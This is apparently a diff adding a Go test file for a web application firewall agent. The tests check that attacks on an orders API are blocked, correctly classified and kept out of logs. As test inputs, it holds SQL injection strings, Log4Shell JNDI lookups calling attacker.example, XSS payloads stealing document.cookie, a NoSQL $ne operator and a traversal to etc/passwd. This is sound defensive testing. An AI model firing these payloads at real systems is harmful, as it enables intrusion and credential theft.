@@ -1,0 +1,300 @@
+package examples
+
+import (
+	"encoding/json"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/lambdawaf/lambdawaf/agent/gateway"
+	"github.com/lambdawaf/lambdawaf/agent/telemetry"
+)
+
+// benignOrder is what a real customer sends: an apostrophe in the name and a
+// note in prose full of SQL keywords, neither of which is an attack.
+var benignOrder = map[string]any{
+	"customer": "Siobhán O'Brien",
+	"note":     "Please select the blue box from the top shelf, or drop it by the door; don't leave it where the old one was -- thanks!",
+	"items":    []map[string]any{{"sku": "TEA-001", "quantity": 2, "price": 4.5}},
+}
+
+// attack is one malicious request in a trigger's natural place, and what
+// the agent must record about it.
+type attack struct {
+	name                 string
+	method, target, body string
+	// class and location are the signal the decision record must hold;
+	// reason, when the positive model (not a detector) refuses the request,
+	// is the reason it must list instead.
+	class, location, reason string
+	// payload holds fragments of the attack that must appear neither in the
+	// response nor, beyond the scrubbed excerpt, in the decision record.
+	payload []string
+}
+
+// blockShape is the block response the example's front door must return.
+type blockShape struct {
+	status      int
+	body        string // exact body the client gets
+	contentType string
+	// statusDescription is required by ALB ("403 Forbidden"), absent
+	// elsewhere.
+	statusDescription string
+	multiValue        bool // ALB with multi-value headers: headers in multiValueHeaders
+}
+
+// ordersExample is an example serving the orders API (GET/POST /orders,
+// GET /orders/{id}) through an HTTP trigger.
+type ordersExample struct {
+	spec
+	attacks []attack
+	block   blockShape
+}
+
+var jsonBlock = blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json"}
+
+func TestHTTPAPIExample(t *testing.T) {
+	t.Parallel()
+	runOrders(t, ordersExample{
+		spec:  spec{example: "http-api", translator: &gateway.Translator{Shape: gateway.HTTPAPI}},
+		block: jsonBlock,
+		attacks: []attack{
+			{name: "sql injection in the query", method: "POST", target: "/orders?customer=1%27%20OR%20%271%27%3D%271",
+				body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"OR '1'='1", "'1'='1"}},
+			{name: "log4shell in the JSON body", method: "POST", target: "/orders",
+				body: orderWith("note", "${jndi:ldap://attacker.example/a}"), class: "jndi", location: "body.note", payload: []string{"attacker.example", "${jndi"}},
+		},
+	})
+}
+
+func TestExistingStackExample(t *testing.T) {
+	t.Parallel()
+	runOrders(t, ordersExample{
+		spec:  spec{example: "existing-stack", translator: &gateway.Translator{Shape: gateway.HTTPAPI}},
+		block: jsonBlock,
+		attacks: []attack{
+			// The route's JSON Schema (customer: string) refuses the
+			// operator object before any detector needs to.
+			{name: "nosql operator the route schema refuses", method: "POST", target: "/orders",
+				body:   `{"customer":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
+				reason: "positive:POST /orders:block@body.customer", payload: []string{`"$ne":null`}},
+			{name: "path traversal in the path", method: "POST", target: "/orders/..%2F..%2F..%2Fetc%2Fpasswd",
+				body: orderWith("customer", "Ann"), class: "path-traversal", location: "path", payload: []string{"etc/passwd", "etc%2Fpasswd"}},
+		},
+	})
+}
+
+func TestALBExample(t *testing.T) {
+	t.Parallel()
+	runOrders(t, ordersExample{
+		spec: spec{example: "alb", translator: &gateway.Translator{Shape: gateway.ALBMultiValue,
+			TargetGroupARN: "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/orders/0123456789abcdef"}},
+		block: blockShape{status: 403, body: `{"message":"Forbidden"}`, contentType: "application/json",
+			statusDescription: "403 Forbidden", multiValue: true},
+		attacks: []attack{
+			{name: "xss in the query", method: "POST", target: "/orders?ref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
+				body: orderWith("customer", "Ann"), class: "xss", location: "query.ref", payload: []string{"<script>", "alert(document.cookie)"}},
+			{name: "log4shell in the JSON body", method: "POST", target: "/orders",
+				body: orderWith("customer", "${jndi:rmi://attacker.example:1099/x}"), class: "jndi", location: "body.customer", payload: []string{"attacker.example", "${jndi"}},
+			// No route schema here: the detector must see the operator.
+			{name: "nosql operator in the JSON body", method: "POST", target: "/orders",
+				body:  `{"customer":"Ann","coupon":{"$ne":null},"items":[{"sku":"TEA-001","quantity":1,"price":1}]}`,
+				class: "nosqli", location: "body.coupon.$ne", payload: []string{`"$ne":null`}}, // the key is in the location by design
+		},
+	})
+}
+
+func TestRESTAPIExample(t *testing.T) {
+	t.Parallel()
+	runOrders(t, ordersExample{
+		spec: spec{example: "rest-api", runtime: "python3.12",
+			translator: &gateway.Translator{Shape: gateway.REST, Stage: "prod", APIID: "a1b2c3d4e5"}},
+		block: jsonBlock,
+		attacks: []attack{
+			{name: "sql injection in the query", method: "POST", target: "/orders?customer=x%27%20UNION%20SELECT%20password%20FROM%20users--",
+				body: orderWith("customer", "Ann"), class: "sqli", location: "query.customer", payload: []string{"UNION SELECT", "password FROM users"}},
+			{name: "xss in the JSON body", method: "POST", target: "/orders",
+				body: orderWith("note", `<svg/onload=alert(document.domain)>`), class: "xss", location: "body.note",
+				payload: []string{"onload", "alert(document.domain)"}},
+		},
+	})
+}
+
+// orderWith is a valid order with one field replaced: if the agent let it
+// through, the handler would create it.
+func orderWith(field, value string) string {
+	o := map[string]any{"customer": "Ann", "items": []map[string]any{{"sku": "TEA-002", "quantity": 1, "price": 3}}}
+	o[field] = value
+	b, _ := json.Marshal(o)
+	return string(b)
+}
+
+// runOrders creates an order and reads it back, sends every attack and
+// checks the block, the decision record and that no attack reached the
+// handler (the order list still holds the benign order only).
+func runOrders(t *testing.T, ex ordersExample) {
+	f := start(t, ex.spec)
+
+	created := f.send(t, "POST", "/orders", "application/json", jsonBody(t, benignOrder))
+	if created.status != http.StatusCreated {
+		t.Fatalf("benign POST /orders: %d %s", created.status, created.body)
+	}
+	var order struct {
+		ID       string `json:"id"`
+		Customer string `json:"customer"`
+		Note     string `json:"note"`
+		Status   string `json:"status"`
+		Items    []struct {
+			SKU string `json:"sku"`
+		} `json:"items"`
+	}
+	created.decode(t, &order)
+	if order.ID == "" || order.Customer != benignOrder["customer"] || order.Note != benignOrder["note"] || order.Status != "placed" {
+		t.Fatalf("created order %s", created.body)
+	}
+	got := f.send(t, "GET", "/orders/"+order.ID, "", "")
+	if got.status != http.StatusOK {
+		t.Fatalf("GET /orders/%s: %d %s", order.ID, got.status, got.body)
+	}
+	var read map[string]any
+	got.decode(t, &read)
+	if read["id"] != order.ID || read["customer"] != benignOrder["customer"] || read["note"] != benignOrder["note"] {
+		t.Errorf("GET /orders/%s returned %s", order.ID, got.body)
+	}
+	if rec, _ := f.decision(t, created.requestID); rec.Decision != "allow" {
+		t.Errorf("benign order: decision %q, signals %+v", rec.Decision, rec.Signals)
+	}
+
+	for _, a := range ex.attacks {
+		t.Run(a.name, func(t *testing.T) {
+			r := f.send(t, a.method, a.target, "application/json", a.body)
+			checkBlock(t, r, ex.block, a)
+			checkRecord(t, f, r.requestID, a)
+			if f.received(r.requestID) {
+				t.Errorf("the runtime received the blocked invocation %s", r.requestID)
+			}
+		})
+	}
+
+	// No attack reached the handler: each was a complete, valid order, so
+	// the handler would have stored it.
+	list := f.send(t, "GET", "/orders", "", "")
+	var all []struct {
+		ID string `json:"id"`
+	}
+	list.decode(t, &all)
+	if list.status != http.StatusOK || len(all) != 1 || all[0].ID != order.ID {
+		t.Errorf("orders after the attacks: %d %s; want only %s", list.status, list.body, order.ID)
+	}
+}
+
+// checkBlock checks the agent's block response as the client saw it and as
+// the function returned it to the front door.
+func checkBlock(t *testing.T, r reply, want blockShape, a attack) {
+	t.Helper()
+	if r.status != want.status || string(r.body) != want.body {
+		t.Errorf("client got %d %q, want the block response %d %q", r.status, r.body, want.status, want.body)
+	}
+	if ct := r.header.Get("Content-Type"); ct != want.contentType {
+		t.Errorf("block response Content-Type %q, want %q", ct, want.contentType)
+	}
+	if r.header.Get("Cache-Control") != "no-store" || r.header.Get("X-Content-Type-Options") != "nosniff" {
+		t.Errorf("block response headers %v: want Cache-Control: no-store and X-Content-Type-Options: nosniff", r.header)
+	}
+	var raw struct {
+		StatusCode        int                 `json:"statusCode"`
+		StatusDescription *string             `json:"statusDescription"`
+		Headers           map[string]string   `json:"headers"`
+		MultiValueHeaders map[string][]string `json:"multiValueHeaders"`
+		Body              string              `json:"body"`
+		IsBase64Encoded   bool                `json:"isBase64Encoded"`
+	}
+	if err := json.Unmarshal(r.raw, &raw); err != nil {
+		t.Fatalf("function response %q: %v", r.raw, err)
+	}
+	switch {
+	case raw.StatusCode != want.status, raw.Body != want.body, raw.IsBase64Encoded:
+		t.Errorf("function response %s", r.raw)
+	case want.statusDescription != "" && (raw.StatusDescription == nil || *raw.StatusDescription != want.statusDescription):
+		t.Errorf("function response lacks statusDescription %q: %s", want.statusDescription, r.raw)
+	case want.statusDescription == "" && raw.StatusDescription != nil:
+		t.Errorf("function response has a statusDescription its trigger does not use: %s", r.raw)
+	case want.multiValue && (raw.Headers != nil || !slices.Equal(raw.MultiValueHeaders["Content-Type"], []string{want.contentType})):
+		t.Errorf("multi-value target group: headers must be in multiValueHeaders: %s", r.raw)
+	case !want.multiValue && (raw.MultiValueHeaders != nil || raw.Headers["Content-Type"] != want.contentType):
+		t.Errorf("headers must be in headers: %s", r.raw)
+	}
+	for _, p := range a.payload {
+		if strings.Contains(string(r.body), p) || strings.Contains(string(r.raw), p) || strings.Contains(strings.Join(headerValues(r.header), "\n"), p) {
+			t.Errorf("block response reflects the input %q", p)
+		}
+	}
+}
+
+func headerValues(h http.Header) []string {
+	var out []string
+	for k, vs := range h {
+		out = append(out, k)
+		out = append(out, vs...)
+	}
+	return out
+}
+
+// checkRecord checks the decision record: blocked, with a signal of the
+// attack's class at its location, and no raw payload outside the scrubbed
+// excerpts.
+func checkRecord(t *testing.T, f *function, requestID string, a attack) {
+	t.Helper()
+	rec, line := f.decision(t, requestID)
+	if rec.Decision != "block" || rec.Kind != "decision" || rec.StatusCode != 403 {
+		t.Errorf("decision record: decision %q kind %q status %d: %s", rec.Decision, rec.Kind, rec.StatusCode, line)
+	}
+	var excerpts []string
+	for _, s := range rec.Signals {
+		excerpts = append(excerpts, s.Excerpt)
+	}
+	switch {
+	case a.class != "" && !slices.ContainsFunc(rec.Signals, func(s telemetry.Signal) bool { return s.Class == a.class && s.Location == a.location }):
+		t.Errorf("decision record has no %s signal at %s: %+v", a.class, a.location, rec.Signals)
+	case a.reason != "" && !slices.Contains(rec.Reasons, a.reason):
+		t.Errorf("decision record reasons %q lack %q", rec.Reasons, a.reason)
+	}
+	// Outside the excerpts (which are cut and scrubbed by design), the
+	// record must not carry the payload: query values are masked, bodies
+	// never logged.
+	rest := withoutExcerpts(t, line)
+	for _, p := range a.payload {
+		if strings.Contains(rest, p) {
+			t.Errorf("decision record carries the raw payload %q outside the excerpt: %s", p, line)
+		}
+	}
+	for _, e := range excerpts {
+		if len(e) > telemetry.MaxExcerpt+len("…")+32 { // the bound agent/telemetry's own test allows
+			t.Errorf("excerpt longer than a scrubbed excerpt should be (%d bytes): %q", len(e), e)
+		}
+	}
+}
+
+// withoutExcerpts returns the record line re-encoded without the signals'
+// excerpts (and without HTML escaping, so payloads are found as sent).
+func withoutExcerpts(t *testing.T, line string) string {
+	t.Helper()
+	var rec map[string]any
+	if err := json.Unmarshal([]byte(line), &rec); err != nil {
+		t.Fatalf("decision record %q: %v", line, err)
+	}
+	signals, _ := rec["signals"].([]any)
+	for _, s := range signals {
+		if m, ok := s.(map[string]any); ok {
+			delete(m, "excerpt")
+		}
+	}
+	var b strings.Builder
+	enc := json.NewEncoder(&b)
+	enc.SetEscapeHTML(false)
+	if err := enc.Encode(rec); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
